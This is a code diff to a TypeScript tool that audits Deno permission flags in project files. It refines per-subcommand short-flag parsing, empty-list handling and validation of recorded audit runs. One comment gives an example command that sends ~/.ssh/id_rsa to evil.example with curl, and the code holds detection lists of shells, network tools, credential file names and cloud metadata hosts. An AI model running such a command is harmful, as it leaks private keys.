@@ -5,7 +5,7 @@
  * YAML, Dockerfiles, Procfiles, Markdown code blocks), parses its permission
  * flags the way Deno 2.9 does, and rates each grant critical to info with a
  * one-line why and a narrower flag to use instead. A recorded run (an
- * {@linkcode AuditReport} from `deno task audit --json`) turns the advice into
+ * `AuditReport` from `deno task audit --json`, see audit_report.ts) turns the advice into
  * the exact flags that run used.
  *
  * Why one file over the ~400-line guide: the task that added `audit:flags`
@@ -28,7 +28,6 @@
 
 import { basename, dirname, join, relative, resolve } from "node:path";
 import { parseJsonc } from "./_jsonc.ts";
-import type { AuditReport } from "./audit_report.ts";
 
 // ── Model ───────────────────────────────────────────────────────────────
 
@@ -157,10 +156,32 @@ const SHORT_ALLOW: Record<string, PermissionKind> = {
   S: "sys",
   I: "import",
 };
-/** Short flags without a value (`-g` is install's --global). */
-const SHORT_PLAIN = new Set("AqhVgfDOepu".split(""));
-/** Short flags whose value is the rest of the cluster or the next word. */
-const SHORT_VALUE = new Set("cLon".split(""));
+/**
+ * Short flags without a value, and those whose value is the rest of the
+ * cluster or the next word, per subcommand (from `deno <sub> --help`).
+ * Which letters a subcommand knows matters: `-Nfoo.com` is
+ * `--allow-net=foo.com` for `run` but `-N -f -o o.com` for `install`.
+ */
+const SHORT_PLAIN: Record<Subcommand, string> = {
+  run: "AqhV",
+  serve: "AqhV",
+  test: "AqhVu",
+  bench: "AqhV",
+  compile: "AqhV",
+  install: "AqhVgfDOe",
+  eval: "AqhVp",
+  repl: "AqhV",
+};
+const SHORT_VALUE: Record<Subcommand, string> = {
+  run: "cL",
+  serve: "cL",
+  test: "cL",
+  bench: "cL",
+  compile: "cLo",
+  install: "cLn",
+  eval: "cL",
+  repl: "cL",
+};
 /** Short flags with an optional `=` value (`-r`, `-P`, and the allows). */
 const SHORT_OPTIONAL = new Set(["r", "P", ...Object.keys(SHORT_ALLOW)]);
 /** Long flags that take the next word as their value (from `deno * --help`). */
@@ -235,14 +256,16 @@ export function parseDenoCommand(
       const name = eq === -1 ? a.slice(2) : a.slice(2, eq);
       const value = eq === -1 ? null : a.slice(eq + 1);
       if (longFlag(parsed, name, value, a)) {
-        if (value === null && name !== "allow-all" && name !== "no-prompt") {
-          bareListFlag = a;
+        if (value === null && /^allow-(?!all$|hrtime$)/.test(name)) {
+          bareListFlag = parsed.grants.at(-1)?.flag ?? null;
         }
       } else if (LONG_VALUE.has(name) && value === null) i++;
     } else if (a.startsWith("-") && a.length > 1) {
       const result = shortCluster(parsed, a);
       if (result === "next") i++;
-      else if (result === "bare") bareListFlag = a;
+      else if (result === "bare" && !a.endsWith("P")) {
+        bareListFlag = parsed.grants.at(-1)?.flag ?? null;
+      }
     } else {
       if (subcommand === "repl") continue;
       if (parsed.script === null) {
@@ -276,6 +299,10 @@ function longFlag(
 ): boolean {
   const list = value === null ? null : splitList(value);
   const match = name.match(/^(allow|deny)-(.+)$/);
+  if (match && list?.length === 0) {
+    problem(parsed, written, `Deno rejects the empty list in '${written}'`);
+    return true;
+  }
   if (name === "no-prompt") parsed.noPrompt = true;
   else if (name === "global") parsed.global = true;
   else if (name === "permission-set") {
@@ -318,7 +345,13 @@ function shortCluster(
       // starts with another known short flag (`-RN` is `-R -N`).
       let value: string | null = null;
       if (rest.startsWith("=")) value = rest.slice(1);
-      else if (rest !== "" && !isKnownShort(rest[0]!)) value = rest;
+      else if (rest !== "" && !isKnownShort(parsed.subcommand, rest[0]!)) {
+        value = rest;
+      }
+      if (value === "" && c !== "r") {
+        problem(parsed, word, `Deno rejects the empty list in '${word}'`);
+        return "done";
+      }
       if (c === "P") {
         parsed.permissionSet = { name: value || "default", flag: shown(value) };
       } else if (c !== "r") {
@@ -332,11 +365,11 @@ function shortCluster(
       if (rest === "") return c === "r" ? "done" : "bare";
     } else if (c === "A") {
       parsed.grants.push({ kind: "all", values: null, flag: shown(null) });
-    } else if (c === "g") {
+    } else if (c === "g" && parsed.subcommand === "install") {
       parsed.global = true;
-    } else if (SHORT_VALUE.has(c)) {
+    } else if (SHORT_VALUE[parsed.subcommand].includes(c)) {
       return rest === "" ? "next" : "done";
-    } else if (!SHORT_PLAIN.has(c)) {
+    } else if (!SHORT_PLAIN[parsed.subcommand].includes(c)) {
       problem(parsed, word, `Deno rejects '-${c}' in '${word}'`);
       return "done";
     }
@@ -344,8 +377,9 @@ function shortCluster(
   return "done";
 }
 
-function isKnownShort(c: string): boolean {
-  return SHORT_PLAIN.has(c) || SHORT_VALUE.has(c) || SHORT_OPTIONAL.has(c);
+function isKnownShort(subcommand: Subcommand, c: string): boolean {
+  return SHORT_PLAIN[subcommand].includes(c) ||
+    SHORT_VALUE[subcommand].includes(c) || SHORT_OPTIONAL.has(c);
 }
 
 function problem(parsed: ParsedDenoCommand, flag: string, message: string) {
@@ -538,10 +572,12 @@ function unquoteYamlScalar(text: string): string {
     : m[2]!.replace(/\\(["\\])/g, "$1");
 }
 
-/** An exec-form array (`CMD ["deno", "run", ...]`), or null. */
+/** An exec-form array (`CMD ["deno", "run", ...]`) naming deno, or null. */
 function execForm(text: string): string[] | null {
-  const m = text.match(/\[\s*"[^"]*deno[^"]*"[^\]]*\]/);
-  if (!m) return null;
+  const m = text.match(
+    /\[\s*"(?:[^"\\]|\\.)*"(?:\s*,\s*"(?:[^"\\]|\\.)*")*\s*\]/,
+  );
+  if (!m || !m[0].includes("deno")) return null;
   try {
     const words: unknown = JSON.parse(m[0]);
     return Array.isArray(words) && words.every((w) => typeof w === "string")
@@ -569,6 +605,7 @@ function fromWords(
   context: Context,
 ): CommandSite[] {
   const at = words.findIndex((w) => DENO_WORD.test(w));
+  if (at > 0 && /^(?:echo|printf)$/.test(words[0]!)) return [];
   const dashC = words.findIndex((w, k) =>
     /^-[a-z]*c$/.test(w) &&
     words.slice(0, k).some((s) => SHELLS.test(basename(s)))
@@ -600,7 +637,7 @@ function fromJsonScripts(
     );
   }
   const scripts = isRecord(json) && isRecord(json[key]) ? json[key] : {};
-  const start = Math.max(0, text.indexOf(`"${key}"`));
+  let from = Math.max(0, text.indexOf(`"${key}"`));
   const sites: CommandSite[] = [];
   for (const [name, value] of Object.entries(scripts)) {
     const command = typeof value === "string"
@@ -609,11 +646,21 @@ function fromJsonScripts(
       ? value.command
       : null;
     if (command === null) continue;
-    const keyAt = text.indexOf(JSON.stringify(name), start);
-    const line = text.slice(0, keyAt === -1 ? start : keyAt).split("\n").length;
+    // The key's line: the next `"name":` after the previous task's key.
+    const keyPattern = new RegExp(
+      `${escapeRegExp(JSON.stringify(name))}\\s*:`,
+      "g",
+    );
+    keyPattern.lastIndex = from;
+    from = keyPattern.exec(text)?.index ?? from;
+    const line = text.slice(0, from).split("\n").length;
     sites.push(...fromShell(command, line, "task"));
   }
   return sites;
+}
+
+function escapeRegExp(text: string): string {
+  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
 }
 
 function isRecord(value: unknown): value is Record<string, unknown> {
@@ -645,6 +692,11 @@ const SECRET_NAMES = new Set([
   ".git-credentials",
   ".vault-token",
 ]);
+/**
+ * Programs that run arbitrary code or fetch it: a child process is outside
+ * Deno's checks, so `--allow-run=bash` is `bash -c 'curl -d @~/.ssh/id_rsa
+ * evil.example'`, i.e. -A. Other programs are still outside the sandbox.
+ */
 const INTERPRETERS =
   /^(?:deno|(?:ba|z|da|k|fi|c|tc)?sh|pwsh|powershell|cmd|python[\d.]*|node(?:js)?|bun|npm|npx|pnpm|yarn|ruby|perl|php|lua|curl|wget|env|sudo|su|doas|xargs|nohup|timeout|docker|podman|kubectl|ssh|awk|gawk|find|make|osascript)$/;
 const CODE_FILE = /\.(?:[mc]?[jt]sx?|sh)$/;
@@ -668,27 +720,31 @@ function cleanPath(path: string): string {
 function secretRead(path: string): string | null {
   const p = cleanPath(path);
   if (p === "/") return "the whole filesystem";
-  if (HOME.test(p)) return "the home directory (keys, tokens, shell history)";
+  if (HOME.test(p)) return "the home directory: keys, tokens, shell history";
   const segments = p.split("/");
-  const secret = segments.find((s) => SECRET_NAMES.has(s));
-  if (secret) return `${secret} (credentials)`;
-  if (/^\.env(?:\..*|rc)?$/.test(segments.at(-1) ?? "")) return ".env secrets";
-  if (/^\/proc(?:\/|$)/.test(p)) return "/proc (other processes' environments)";
-  if (/^\/etc(?:\/|$)/.test(p)) return "/etc (system configuration)";
+  if (segments.some((s) => SECRET_NAMES.has(s))) return "credentials";
+  if (/^\.env(?:\..*|rc)?$/.test(segments.at(-1) ?? "")) return "secrets";
+  if (/^\/proc(?:\/|$)/.test(p)) return "other processes' environments";
+  if (/^\/etc(?:\/|$)/.test(p)) return "system configuration";
   if (/^\/(?:var\/)?run\/secrets(?:\/|$)/.test(p)) return "mounted secrets";
   return null;
 }
 
-/** Why writing `path` is dangerous, or null. */
+/**
+ * Why writing `path` is dangerous, or null: a program that may write the
+ * project's code, deno.json, git hooks, a shell profile or Deno's module
+ * cache runs its own code next time, outside any review of this command.
+ */
 function riskyWrite(path: string): string | null {
   const p = cleanPath(path);
-  if (p === "/" || HOME.test(p) || HOME_PREFIX.test(p)) {
-    return "your home directory or the whole filesystem (shell profiles, keys)";
+  if (p === "/") return "the whole filesystem";
+  if (HOME.test(p) || HOME_PREFIX.test(p)) {
+    return "the home directory: shell profiles, keys, Deno's module cache";
   }
   if (/^\/(?:etc|usr|bin|sbin|lib|boot)(?:\/|$)/.test(p)) return "system files";
   const rel = p.replace(/^\.\//, "");
   if ([".", "./", "..", "$PWD"].includes(p) || rel === "") {
-    return "the whole project (its code and deno.json)";
+    return "the whole project: its code and deno.json";
   }
   const top = rel.split("/")[0]!;
   if (
@@ -709,6 +765,7 @@ function hostOf(value: string): string {
 
 const isLocalHost = (h: string) =>
   /^(?:localhost|127(?:\.\d+){3}|::1?|0\.0\.0\.0)$/.test(hostOf(h));
+/** Cloud metadata endpoints hand out the machine's credentials to any GET. */
 const isMetadataHost = (h: string) =>
   /^(?:169\.254\.\d+\.\d+|metadata(?:\.google\.internal)?|100\.100\.100\.200|fd00:ec2::254)$/
     .test(hostOf(h));
@@ -790,9 +847,9 @@ function rateList(kind: PermissionKind, values: string[] | null): Rated {
       if (risky.length > 0) {
         return rated(
           "high",
-          `writes over ${
+          `can rewrite what runs later: ${
             risky.map((r) => `${r} (${riskyWrite(r)})`).join(", ")
-          }: it can rewrite code that runs later`,
+          }`,
           "write to a dedicated output directory only: --allow-write=./out",
         );
       }
@@ -1076,11 +1133,32 @@ function expandSet(
 
 // ── Recorded runs (--trail) ─────────────────────────────────────────────
 
-/** The parts of an {@linkcode AuditReport} the flag audit uses. */
-export type Trail = Pick<
-  AuditReport,
-  "program" | "learn" | "entries" | "minimalFlags"
->;
+/**
+ * The parts of an `AuditReport` (harness/audit_report.ts) the flag audit
+ * uses; every AuditReport is one (the tests hold that at compile time).
+ */
+export interface Trail {
+  /** The program the run audited, as given to `deno task audit`. */
+  program: string;
+  /** A learn-mode run allows everything, so nothing in it was refused. */
+  learn: boolean;
+  /** The distinct attempts of the run. */
+  entries: readonly TrailEntry[];
+  /** The minimal `deno run` flags for the run (refused attempts included). */
+  minimalFlags: readonly string[];
+}
+
+/** One distinct attempt of a recorded run (an AuditReport's `ReportEntry`). */
+export interface TrailEntry {
+  /** A permission kind, or "egress" for a request through the injector. */
+  kind: string;
+  /** Sandbox-side value: path, host:port, variable, command. */
+  value: string;
+  /** Host-side path, when it maps. */
+  hostValue: string | null;
+  /** The run's decision. */
+  decision: "allow" | "deny";
+}
 
 /**
  * Checks that a parsed JSON value is an audit report (or an array of them),
@@ -1102,7 +1180,8 @@ export function parseTrail(value: unknown, name: string): Trail[] {
   const reports = Array.isArray(value) ? value : [value];
   for (const report of reports) {
     const ok = isRecord(report) && typeof report.program === "string" &&
-      Array.isArray(report.entries) && Array.isArray(report.minimalFlags) &&
+      Array.isArray(report.entries) && report.entries.every(isEntry) &&
+      Array.isArray(report.minimalFlags) &&
       report.minimalFlags.every((f) => typeof f === "string");
     if (!ok) {
       throw new TypeError(
@@ -1111,6 +1190,13 @@ export function parseTrail(value: unknown, name: string): Trail[] {
     }
   }
   return reports as Trail[];
+}
+
+function isEntry(entry: unknown): boolean {
+  return isRecord(entry) && typeof entry.kind === "string" &&
+    typeof entry.value === "string" &&
+    (entry.hostValue === null || typeof entry.hostValue === "string") &&
+    (entry.decision === "allow" || entry.decision === "deny");
 }
 
 function trailFor(
@@ -1169,25 +1255,37 @@ function observedFlags(
 }
 
 function trailSuggestion(grant: Grant, trail: Trail): string {
-  const observed = observedFlags(trail);
-  const name = `the recorded run of ${trail.program}`;
-  const withLeftOut = (flag: string, leftOut: string[]) =>
-    (flag || "no flag") +
-    (leftOut.length > 0
-      ? `; left out, refused or risky: ${leftOut.join(", ")}`
-      : "");
-  if (grant.kind === "all") {
-    const flags = [...observed.values()].map((o) => o.flag).filter((f) => f);
-    const leftOut = [...observed.values()].flatMap((o) => o.leftOut);
-    return flags.length === 0 && leftOut.length === 0
-      ? `${name} needed no permission: delete ${grant.flag}`
-      : `${name} needed only: ${withLeftOut(flags.join(" "), leftOut)}`;
+  const observed = [...observedFlags(trail)];
+  const run = `the recorded run of ${trail.program}`;
+  const notProposed = (values: string[]) =>
+    values.length > 0
+      ? `; not proposed (refused in the run, or risky): ${values.join(", ")}`
+      : "";
+  const pick = grant.kind === "all"
+    ? observed
+    : observed.filter(([kind]) => kind === grant.kind);
+  if (
+    grant.kind !== "all" && !LIST_KINDS.includes(grant.kind as PermissionKind)
+  ) {
+    return "";
   }
-  if (!LIST_KINDS.includes(grant.kind as PermissionKind)) return "";
-  const used = observed.get(grant.kind as PermissionKind);
-  return used
-    ? `${name} used: ${withLeftOut(used.flag, used.leftOut)}`
-    : `${name} never used ${grant.kind}: delete the flag`;
+  if (pick.length === 0) {
+    return `${run} used no ${
+      grant.kind === "all" ? "permission" : grant.kind
+    }: delete ${grant.flag}`;
+  }
+  const flags = pick.map(([, o]) => o.flag).filter((f) => f !== "");
+  const leftOut = pick.flatMap(([kind, o]) =>
+    o.leftOut.map((v) => grant.kind === "all" ? `${kind} ${v}` : v)
+  );
+  return (flags.length > 0
+    ? `${run} ${grant.kind === "all" ? "needed only" : "used"}: ${
+      flags.join(" ")
+    }`
+    : `${run} needs no ${
+      grant.kind === "all" ? "permission" : grant.kind
+    } grant`) +
+    notProposed(leftOut);
 }
 
 // ── Putting it together ─────────────────────────────────────────────────
@@ -1277,9 +1375,8 @@ function rateSite(
       const word = parsed.misplacedValue.word;
       rated.message +=
         `; '${word}' after it is not its list but the script Deno runs`;
-      rated.suggestion = `write the list with '=': ${
-        grant.flag.split("=")[0]
-      }=${word}`;
+      rated.suggestion =
+        `write the list with '=': --allow-${grant.kind}=${word}`;
     }
     const observed = trail ? trailSuggestion(grant, trail) : "";
     add(grant.flag, observed ? { ...rated, suggestion: observed } : rated);
@@ -1354,7 +1451,7 @@ export async function auditPath(
   );
   const excluded = (options.exclude ?? []).map((e) => resolve(root, e));
   const files: string[] = [];
-  await walk(root, excluded, files);
+  await walk(root, excluded, files, true);
   const texts = new Map<string, string>();
   for (const file of files) {
     const text = await readText(file);
@@ -1362,21 +1459,19 @@ export async function auditPath(
   }
   const setsByDir = new Map<string, PermissionSets | null>();
   for (const [file, text] of texts) {
+    // Deno reads deno.json before deno.jsonc, and the walk is sorted.
     if (
-      /^deno\.jsonc?$/.test(basename(file)) && !setsByDir.get(dirname(file))
+      /^deno\.jsonc?$/.test(basename(file)) && !setsByDir.has(dirname(file))
     ) {
       setsByDir.set(dirname(file), permissionSetsOf(text));
     }
   }
-  const setsFor = (file: string) => {
+  // The nearest config at or above the file, up to the audited path.
+  const setsFor = (file: string): PermissionSets | null => {
     for (let dir = dirname(file);; dir = dirname(dir)) {
       const sets = setsByDir.get(dir);
-      if (
-        sets || dir === dirname(dir) ||
-        !`${dir}/`.startsWith(`${dirname(root)}/`)
-      ) {
-        return sets ?? null;
-      }
+      if (sets) return sets;
+      if (dir === root || !dir.startsWith(`${root}/`)) return null;
     }
   };
   const findings = [...texts].flatMap(([file, text]) =>
@@ -1392,14 +1487,17 @@ async function walk(
   path: string,
   excluded: readonly string[],
   out: string[],
+  top = false,
 ): Promise<void> {
   if (excluded.some((e) => path === e || path.startsWith(`${e}/`))) return;
-  const info = await Deno.lstat(path);
+  // The path given is followed; symlinks inside it are not (a link to / or
+  // to a loop would walk forever, and its files are not the project's).
+  const info = top ? await Deno.stat(path) : await Deno.lstat(path);
   if (info.isFile) {
     out.push(path);
     return;
   }
-  if (!info.isDirectory) return; // symlinks are not followed
+  if (!info.isDirectory) return;
   const names: string[] = [];
   for await (const entry of Deno.readDir(path)) {
     if (!(entry.isDirectory && SKIP_DIRS.has(entry.name))) {
